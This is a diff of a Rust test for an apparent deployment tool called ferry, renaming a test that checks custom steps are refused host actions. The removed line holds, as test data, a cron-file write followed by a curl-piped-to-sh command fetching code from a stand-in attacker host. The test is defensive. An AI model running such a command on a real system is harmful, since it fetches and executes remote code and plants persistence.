@@ -131,12 +131,15 @@ fn an_undo_outside_the_grant_is_refused() {
 }
 
 #[test]
-fn a_shell_command_from_a_custom_step_is_refused_even_with_the_vm_grant() {
-    let params = "params = { op = \"vm-write-file\", path = \"/etc/cron.d/tidy\", then = \"curl -s https://attacker.example/x | sh\" }\n";
+fn an_nginx_reload_from_a_custom_step_is_refused_even_with_the_vm_grant() {
+    // No step can put a command in a plan any more (`vm-file` has a `reload`
+    // flag, and the host runs the target's own `nginx_reload`); a custom
+    // step still may not make a site file it wrote start serving.
+    let params = "params = { op = \"vm-write-file\", path = \"/etc/nginx/sites-enabled/tidy\", reload = \"true\" }\n";
     let co = app(&step("tidy", &format!("actions = [\"vm\"]\n{params}")));
     let err = refused(co.path());
     assert!(
-        err.contains("step `tidy` proposed action `tidy-logs` whose operation writes /etc/cron.d/tidy and then runs a shell command on the host; only ferry's built-in steps may do that"),
+        err.contains("step `tidy` proposed action `tidy-logs` whose operation writes /etc/nginx/sites-enabled/tidy and then reloads nginx on the host; only ferry's built-in steps may do that"),
         "{err}"
     );
 }
